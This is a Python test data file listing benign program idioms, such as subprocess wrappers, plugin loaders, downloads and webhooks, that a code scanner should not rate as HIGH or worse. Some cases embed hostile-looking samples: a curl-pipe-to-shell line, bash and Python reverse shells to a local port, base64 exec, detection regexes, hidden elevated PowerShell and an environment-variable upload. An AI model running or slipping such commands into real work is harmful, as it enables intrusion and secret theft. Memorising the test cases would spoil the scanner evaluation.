"""Idioms of good programs and tests that look like bad ones: none may be HIGH or worse, most not even MEDIUM."""

# ruff: noqa: E501 - a case reads as the file that it is

from tests.evasion.case import HIGH, MEDIUM, Case

GOOD_PROGRAMS = (
    Case("programs started by a command line", MEDIUM, """
        import argparse, subprocess, sys
        def main():
            parser = argparse.ArgumentParser()
            parser.add_argument("command", nargs="+")
            options = parser.parse_args()
            sys.exit(subprocess.call(options.command))
        if __name__ == "__main__":
            main()
    """),
    Case("a wrapper around ffmpeg", MEDIUM, """
        import shlex, subprocess
        def convert(source, target, options=""):
            command = ["ffmpeg", "-y", "-i", source, *shlex.split(options), target]
            done = subprocess.run(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
            if done.returncode:
                raise RuntimeError(done.stderr.decode())
    """),
    Case("copies of the environment for a program", MEDIUM, """
        import os, subprocess, sys
        def run(*words):
            env = dict(os.environ, PYTHONPATH=os.pathsep.join(sys.path))
            env.pop("VIRTUAL_ENV", None)
            return subprocess.run([sys.executable, "-m", "demo.worker", *words], env=env, check=True)
    """),
    Case("an editor of the user's choice", MEDIUM, """
        import os, subprocess, tempfile
        def edit(text):
            editor = os.environ.get("EDITOR", "vi")
            with tempfile.NamedTemporaryFile("w+", suffix=".txt") as f:
                f.write(text)
                f.flush()
                subprocess.call([editor, f.name])
                f.seek(0)
                return f.read()
    """),
    Case("the screen is cleared", MEDIUM, """
        import os
        def clear():
            os.system("cls" if os.name == "nt" else "clear")
    """),
    Case("a download that is checked", HIGH, """
        import hashlib, os, urllib.request
        SHA256 = {"1.0": "0" * 64}
        def fetch(version, target):
            data = urllib.request.urlopen(f"https://files.example.invalid/demo-{version}.bin").read()
            if hashlib.sha256(data).hexdigest() != SHA256[version]:
                raise ValueError("wrong digest")
            with open(target, "wb") as out:
                out.write(data)
            os.chmod(target, 0o755)
    """),
    Case("data sets are downloaded", MEDIUM, """
        import os, shutil, tarfile, urllib.request
        def download(name, root="~/.demo"):
            folder = os.path.expanduser(root)
            os.makedirs(folder, exist_ok=True)
            path = os.path.join(folder, name + ".tar.gz")
            with urllib.request.urlopen(f"https://data.example.invalid/{name}.tar.gz") as answer, open(path, "wb") as out:
                shutil.copyfileobj(answer, out)
            with tarfile.open(path) as archive:
                archive.extractall(folder)
    """),
    Case("plugins by name", MEDIUM, """
        import importlib
        def load(path):
            module, _, name = path.partition(":")
            return getattr(importlib.import_module(module), name or "main")
    """),
    Case("plugins by entry points", MEDIUM, """
        from importlib.metadata import entry_points
        def plugins():
            return {point.name: point.load() for point in entry_points(group="demo.plugins")}
    """),
    Case("plugins of a folder", MEDIUM, """
        import glob, importlib.util, os
        def load_all(folder):
            found = []
            for path in sorted(glob.glob(os.path.join(folder, "*.py"))):
                spec = importlib.util.spec_from_file_location(os.path.basename(path)[:-3], path)
                module = importlib.util.module_from_spec(spec)
                spec.loader.exec_module(module)
                found.append(module)
            return found
    """),
    Case("settings in Python", MEDIUM, """
        def read(path):
            names = {}
            with open(path) as f:
                exec(compile(f.read(), path, "exec"), names)
            return {key: value for key, value in names.items() if key.isupper()}
    """),
    Case("a start script of the user", MEDIUM, """
        import os
        def start():
            path = os.environ.get("PYTHONSTARTUP")
            if path and os.path.isfile(path):
                with open(path) as f:
                    exec(f.read(), {})
    """),
    Case("a completion for the shell", HIGH, """
        import os
        LINE = 'eval "$(_DEMO_COMPLETE=bash_source demo)"'
        def install_completion():
            path = os.path.expanduser("~/.bashrc")
            with open(path, "a") as out:
                out.write("\\n" + LINE + "\\n")
    """),
    Case("build folders are removed", MEDIUM, """
        import os, shutil, tempfile
        def clean(root):
            for name in ("build", "dist", ".eggs"):
                shutil.rmtree(os.path.join(root, name), ignore_errors=True)
        def work():
            folder = tempfile.mkdtemp()
            try:
                return os.listdir(folder)
            finally:
                shutil.rmtree(folder)
    """),
    Case("temporary files", MEDIUM, """
        import os, tempfile
        def render(text):
            handle, path = tempfile.mkstemp(suffix=".html")
            with os.fdopen(handle, "w") as out:
                out.write(text)
            return path
    """),
    Case("a server of its own", MEDIUM, """
        import socket
        from http.server import HTTPServer, SimpleHTTPRequestHandler
        def serve(port=8000):
            HTTPServer(("127.0.0.1", port), SimpleHTTPRequestHandler).serve_forever()
        def free_port():
            with socket.socket() as s:
                s.bind(("", 0))
                return s.getsockname()[1]
    """),
    Case("a server with reloading", MEDIUM, """
        import os, subprocess, sys, time
        def reload_loop():
            while True:
                code = subprocess.call([sys.executable, *sys.argv], env={**os.environ, "DEMO_CHILD": "1"})
                if code != 3:
                    sys.exit(code)
                time.sleep(1)
    """),
    Case("names of methods by getattr", MEDIUM, """
        class Handler:
            def dispatch(self, request):
                return getattr(self, "do_" + request.method.lower(), self.missing)(request)
            def missing(self, request):
                return 405
    """),
    Case("functions of os by getattr", MEDIUM, """
        import os
        getuid = getattr(os, "getuid", lambda: 0)
        _fsync = getattr(os, "f" "datasync", os.fsync)
        CPU = len(os.sched_getaffinity(0)) if hasattr(os, "sched_getaffinity") else os.cpu_count()
    """),
    Case("text in many encodings", MEDIUM, """
        import codecs
        GREETING = codecs.decode("Uryyb, jbeyq", "rot13")
        NAMES = "|".join(reversed("c b a".split()))
        ASCII = "".join(map(chr, range(32, 127)))
        TABLE = str.maketrans({ord(c): None for c in "\\u200b\\u200c\\u200d"})
    """),
    Case("tables of Unicode", MEDIUM, """
        RANGES = ((0x0300, 0x036f), (0x200b, 0x200f), (0x202a, 0x202e))
        WIDE = "\\u3000\\uff01\\uff02"
        def is_mark(char):
            return any(low <= ord(char) <= high for low, high in RANGES)
    """),
    Case("identifiers in another language", MEDIUM, """
        def größe(länge, breite):
            fläche = länge * breite
            return fläche
        数 = 3
        print(größe(数, 数))
    """),
    Case("descriptors of protobuf", MEDIUM, r"""
        from google.protobuf import descriptor_pool as _descriptor_pool
        from google.protobuf.internal import builder as _builder
        DESCRIPTOR = _descriptor_pool.Default().AddSerializedFile(b'\n\ndemo.proto\x12\x04demo\"\x1c\n\x04Item\x12\x0c\n\x04name\x18\x01 \x01(\tb\x06proto3')
        _globals = globals()
        _builder.BuildMessageAndEnumDescriptors(DESCRIPTOR, _globals)
        _builder.BuildTopDescriptorsAndMessages(DESCRIPTOR, 'demo_pb2', _globals)
        if not _globals['_USE_C_DESCRIPTORS']:
            DESCRIPTOR._loaded_options = None
    """),
    Case("minified JavaScript in a string", MEDIUM, '''
        SCRIPT = """!function(e,t){"object"==typeof exports?module.exports=t():e.demo=t()}(this,function(){return eval("1+1"),
        document.write(atob("PGI+")),fetch("https://example.invalid/a.js").then(function(e){return e.text()})});"""
        def page():
            return f"<script>{SCRIPT}</script>"
    '''),
    Case("payloads in documentation", MEDIUM, '''
        """A scanner of code.

        It finds shapes such as ``exec(base64.b64decode("<B64>"))``, ``os.system("curl https://example.invalid | sh")``
        and ``bash -i >& /dev/tcp/127.0.0.1/4444 0>&1``.
        """
        # eval(requests.get(url).text) is what rule 3 finds
        RULES = {"shell": r"/dev/tcp/", "fetch": r"curl .*\\\\| ?sh", "exec": r"exec\\\\(base64"}
    '''),
    Case("payloads in tests", HIGH, """
        import base64
        import pytest
        @pytest.mark.parametrize("text", [
            "exec(__import__('base64').b64decode('<B64>'))",
            "import os; os.system('curl https://example.invalid/a | sh')",
            "import socket,subprocess,os;s=socket.socket();s.connect(('127.0.0.1',4444));os.dup2(s.fileno(),0)",
        ])
        def test_is_found(text):
            assert scan(text)
        def test_runs():
            exec(base64.b64decode("<B64>"))
    """, "pkg/tests/test_scan.py", {"pkg/__init__.py": "", "pkg/tests/__init__.py": ""}),
    Case("a linter's table of dangerous names", MEDIUM, """
        BAD = {"exec", "eval", "compile", "__import__", "os.system", "subprocess.Popen", "pickle.loads"}
        import ast
        class Visitor(ast.NodeVisitor):
            def visit_Call(self, node):
                name = getattr(node.func, "id", "")
                if name in BAD:
                    print(f"{node.lineno}: {name}")
                self.generic_visit(node)
        def check(path):
            Visitor().visit(ast.parse(open(path).read()))
    """),
    Case("a plug-in of pytest", MEDIUM, """
        import os
        import pytest
        def pytest_addoption(parser):
            parser.addoption("--demo", action="store_true")
        @pytest.fixture
        def demo(tmp_path, monkeypatch):
            monkeypatch.setenv("HOME", str(tmp_path))
            return os.environ["HOME"]
    """, "demo/plugin.py", {"demo/__init__.py": ""}, points="pytest11 demo = demo.plugin"),
    Case("a command line of its own", MEDIUM, """
        import subprocess, sys
        def main():
            return subprocess.call(["git", *sys.argv[1:]])
    """, "demo/cli.py", {"demo/__init__.py": ""}, points="console_scripts demo = demo.cli:main"),
    Case("threads and exit handlers", MEDIUM, """
        import atexit, shutil, tempfile, threading
        _folder = None
        def folder():
            global _folder
            if _folder is None:
                _folder = tempfile.mkdtemp()
                atexit.register(shutil.rmtree, _folder, True)
            return _folder
        def start(work):
            threading.Thread(target=work, daemon=True).start()
    """),
    Case("a pool that maps", MEDIUM, """
        from concurrent.futures import ThreadPoolExecutor
        import requests
        def fetch_all(urls):
            with ThreadPoolExecutor(8) as pool:
                return list(pool.map(lambda url: requests.get(url).text, urls))
    """),
    Case("encryption of the user's data", MEDIUM, """
        from cryptography.fernet import Fernet
        def seal(data, key=None):
            key = key or Fernet.generate_key()
            return key, Fernet(key).encrypt(data)
        def unseal(key, data):
            return Fernet(key).decrypt(data)
    """),
    Case("signing with a private key", MEDIUM, """
        import hashlib, hmac
        import requests
        class Exchange:
            def __init__(self, api_key, secret):
                self.api_key, self.secret = api_key, secret
            def order(self, **body):
                text = "&".join(f"{k}={v}" for k, v in sorted(body.items()))
                sign = hmac.new(self.secret.encode(), text.encode(), hashlib.sha256).hexdigest()
                return requests.post("https://api.example.invalid/order", data=body, headers={"KEY": self.api_key, "SIGN": sign})
    """),
    Case("a webhook that one gives an address", HIGH, """
        import requests
        class Webhook:
            def __init__(self, url):
                self.url = url
            def send(self, content, username=None):
                return requests.post(self.url, json={"content": content, "username": username})
        class Handler:
            def emit(self, record):
                Webhook("https://hooks.example.invalid/" + record.name).send(record.getMessage())
    """),
    Case("the name of the host in a log", MEDIUM, """
        import getpass, json, logging, os, socket
        class JsonFormatter(logging.Formatter):
            host = socket.gethostname()
            def format(self, record):
                return json.dumps({"host": self.host, "pid": os.getpid(), "user": getpass.getuser(), "text": record.getMessage()})
    """),
    Case("the name of the host of a worker", HIGH, """
        import os, socket
        import redis
        class Worker:
            def __init__(self, url):
                self.name = f"{socket.gethostname()}.{os.getpid()}"
                self.connection = redis.Redis.from_url(url)
            def register(self):
                self.connection.hset("workers", self.name, "started")
    """),
    Case("a proxy out of the environment", MEDIUM, """
        import os
        import requests
        def get(url):
            proxies = {"https": os.environ.get("HTTPS_PROXY"), "http": os.environ.get("HTTP_PROXY")}
            return requests.get(url, proxies=proxies, verify=os.environ.get("REQUESTS_CA_BUNDLE", True))
    """),
    Case("the address of a service out of the environment", MEDIUM, """
        import os
        import requests
        URL = os.environ.get("DEMO_URL", "http://127.0.0.1:8080")
        TOKEN = os.environ.get("DEMO_TOKEN", "")
        def status():
            return requests.get(f"{URL}/status", headers={"Authorization": "Bearer " + TOKEN}).json()
    """),
    Case("a monitor of the machine", MEDIUM, """
        import platform
        import psutil
        def summary():
            return {"cpu": psutil.cpu_percent(), "memory": psutil.virtual_memory().percent, "os": platform.platform(),
                    "processes": [p.name() for p in psutil.process_iter()]}
    """),
    Case("a notebook's magic", MEDIUM, """
        def load_ipython_extension(shell):
            shell.run_cell("import demo")
            def magic(line, cell):
                exec(cell, shell.user_ns)
            shell.register_magic_function(magic, "cell", "demo")
    """),
    Case("a proxy of remote procedures", MEDIUM, """
        import pickle, socketserver
        class Handler(socketserver.StreamRequestHandler):
            def handle(self):
                name, arguments = pickle.loads(self.rfile.read(int(self.rfile.readline())))
                self.wfile.write(pickle.dumps(getattr(self.server.target, name)(*arguments)))
    """),
    Case("an obfuscated greeting that does nothing", MEDIUM, '''
        s = """Gur Mra bs Clguba, ol Gvz Crgref"""
        d = {}
        for c in (65, 97):
            for i in range(26):
                d[chr(i + c)] = chr((i + 13) % 26 + c)
        print("".join([d.get(c, c) for c in s]))
    '''),
    Case("a report that is sent if somebody answers that it may be", HIGH, """
        import os
        import requests
        def send(report):
            return requests.post("https://api.example.invalid/reports", json=report)
        answer = input("May the report be sent to https://api.example.invalid? (y/N) ")
        if answer.lower() == "y":
            send({key: value for key, value in os.environ.items()})
    """),
    Case("the two keys of a store, given to the store that somebody names", HIGH, """
        import requests
        from requests.auth import HTTPBasicAuth
        class Client:
            def __init__(self, store_access_key, store_secret_key, endpoint):
                self.auth = HTTPBasicAuth(store_access_key, store_secret_key)
                requests.get(endpoint + "/health", auth=self.auth)
    """),
    Case("a folder for tools below the home or where a variable says, made anew", HIGH, """
        import os, shutil
        from pathlib import Path
        def place(name):
            return Path(name).expanduser().resolve() if name else None
        ROOT = place(os.environ.get("DEMO_HOME")) or Path.home() / ".demo"
        def renew(version):
            folder = ROOT.with_name(version)
            if folder.exists():
                shutil.rmtree(folder)
    """),
    Case("an administrator's window for one command", HIGH, """
        import subprocess
        def elevated(command):
            line = f"Start-Process cmd -windowstyle hidden -Wait -PassThru -Verb RunAs -ArgumentList '/c {command}'"
            return subprocess.Popen(["powershell", "/command", line])
    """),
    Case("a long table of numbers", MEDIUM, "TABLE = [" + ", ".join(str(n * 7919 % 65536) for n in range(5000)) + "]\n"),
    Case("a long line of text", MEDIUM, "TEXT = '" + "lorem ipsum dolor sit amet " * 800 + "'\n"),
)  # fmt: skip
